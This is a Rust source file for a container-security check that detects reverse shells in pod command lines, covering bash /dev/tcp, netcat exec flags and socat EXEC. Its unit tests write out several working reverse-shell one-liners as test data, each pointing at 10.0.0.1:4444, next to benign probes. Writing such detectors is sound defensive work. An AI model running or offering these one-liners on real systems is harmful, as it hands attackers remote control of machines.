//! A container that hands a shell to somebody outside.

use super::command;
use crate::prelude::*;

pub(super) static CHECK: Check = Check {
    meta: CheckMeta {
        id: "reverse-shell",
        title: "container opens a shell to somewhere else",
        severity: Severity::Critical,
        family: "workload",
        since: "0.1.0",
        page: include_str!("reverse_shell.md"),
    },
    run: Run::Pod(run),
};

fn run(pod: &Pod<'_>, out: &mut Out<'_>) {
    for container in pod.containers() {
        for line in command::lines(&container) {
            if let Some(how) = line.str().and_then(shell) {
                out.fail(&line, format!("{container} opens a shell to somewhere else, {how}"));
            } else {
                out.pass(&line);
            }
        }
    }
}

/// How a script connects a shell to the network.
fn shell(script: &str) -> Option<&'static str> {
    let redirected = ["/dev/tcp/", "/dev/udp/"].into_iter().any(|device| script.contains(device));
    let interactive = script.contains("sh -i") || script.contains(">&") && script.contains("sh ");
    if redirected && interactive {
        return Some("through bash's /dev/tcp");
    }
    let mut words = command::words(script).peekable();
    while let Some(word) = words.next() {
        let program = word.rsplit('/').next().unwrap_or(word);
        let is_netcat = matches!(program, "nc" | "ncat" | "netcat" | "nc.traditional");
        let rest = || words.clone().take(8);
        if is_netcat {
            let executes = |flag: &str| {
                let letters = flag.strip_prefix('-').filter(|letters| !letters.starts_with('-'));
                matches!(flag, "--exec" | "--sh-exec")
                    || letters.is_some_and(|letters| letters.ends_with(['e', 'c']) && letters.len() <= 5)
            };
            let has_shell = rest().any(is_shell);
            if rest().any(executes) && has_shell {
                return Some("with netcat");
            }
        }
        if program == "socat"
            && rest().any(is_exec)
            && rest().any(|word| word.to_ascii_uppercase().starts_with("TCP"))
        {
            return Some("with socat");
        }
    }
    None
}

fn is_shell(word: &str) -> bool {
    matches!(word.rsplit('/').next(), Some("sh" | "bash" | "ash" | "dash" | "zsh"))
}

fn is_exec(word: &str) -> bool {
    let (action, program) = word.split_once(':').unwrap_or((word, ""));
    let program = program.split([',', ' ']).next().unwrap_or_default();
    matches!(action.to_ascii_uppercase().as_str(), "EXEC" | "SYSTEM")
        && is_shell(program.trim_matches(['\'', '"']))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_to_elsewhere_are_told_from_probes() {
        for (script, found) in [
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
            ("exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5 2>&5", true),
            ("nc -e /bin/sh 10.0.0.1 4444", true),
            ("ncat 10.0.0.1 4444 --exec /bin/bash", true),
            ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", true),
            ("socat exec:'bash',pty tcp-connect:10.0.0.1:4444", true),
            ("until nc -z db 5432; do sleep 1; done", false),
            ("while ! (echo > /dev/tcp/db/5432); do sleep 1; done", false),
            ("nc -zv db 5432 && sh start.sh", false),
            ("socat TCP-LISTEN:80,fork TCP:web:8080", false),
            ("sh -c 'exec server'", false),
        ] {
            assert_eq!(shell(script).is_some(), found, "{script}");
        }
    }
}
